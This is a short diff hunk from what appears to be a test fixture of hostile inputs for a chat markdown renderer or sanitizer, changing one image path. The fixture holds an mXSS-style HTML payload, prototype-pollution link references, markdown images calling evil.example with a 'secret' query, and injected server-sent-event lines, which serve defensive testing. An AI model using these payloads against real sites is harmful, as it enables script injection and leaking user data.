@@ -35,7 +35,7 @@ onfocus=window.pwned=1></form><math><mtext></form><form><mglyph><style></math><i
 [__proto__]: https://evil.example/proto
 [constructor]: /api/chat`,
   "images of others": `![a](https://evil.example/a.png?secret=1) ![b](//evil.example/b.png) ![c](data:image/png;base64,AA)
-[![d](https://evil.example/d.png)](https://evil.example/) ![e](/api/models) ![f](https://evil.example/f.png "t" =9x9)
+[![d](https://evil.example/d.png)](https://evil.example/) ![e](/models?x=1) ![f](https://evil.example/f.png "t" =9x9)
 ![![![g](https://evil.example/g.png)](https://evil.example/h.png)](https://evil.example/i.png)`,
   "links in links": "[a [b [c](https://c.example) d](https://b.example) e](https://a.example) [![x](y)](z)",
   "events of our own stream": 'data: {"type":"done"}\n\nevent: error\nid: 7\n\n: comment\n\ndata: [DONE]\n\n',
